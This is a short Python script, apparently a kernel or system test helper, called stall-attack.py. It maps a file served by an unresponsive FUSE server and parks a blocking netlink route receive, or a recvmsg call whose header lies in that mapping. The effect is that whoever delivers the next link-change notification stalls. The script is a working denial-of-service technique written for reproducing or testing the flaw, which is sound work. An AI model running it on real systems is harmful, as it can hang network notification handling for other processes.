#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
# stall-attack.py [--msghdr] FILE - park a blocking NETLINK_ROUTE receive
# whose buffer is a shared mapping of FILE (a FUSE file whose server never
# answers READ), subscribed to link changes: whoever writes the next
# notification into it waits on that server. Prints "parked" before the
# receive. With --msghdr the receive is a recvmsg(2) whose struct msghdr
# is at the start of the mapping: whoever reads it waits on that server.
import ctypes
import errno
import mmap
import os
import socket
import sys

RTMGRP_LINK = 1
msghdr = sys.argv[1] == "--msghdr"
fd = os.open(sys.argv[-1], os.O_RDWR)
mm = mmap.mmap(fd, 65536, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
s.bind((0, RTMGRP_LINK))
print("parked", flush=True)
if msghdr:
    libc = ctypes.CDLL(None, use_errno=True)
    hdr = ctypes.addressof(ctypes.c_char.from_buffer(mm))
    n = libc.recvmsg(s.fileno(), ctypes.c_void_p(hdr), 0)
    e = ctypes.get_errno()
    print("recvmsg", n, errno.errorcode.get(e, e) if n < 0 else "", flush=True)
    sys.exit(0)
try:
    n = s.recv_into(memoryview(mm))
    print("received", n, flush=True)
except OSError as e:
    print("error", errno.errorcode.get(e.errno, e.errno), flush=True)
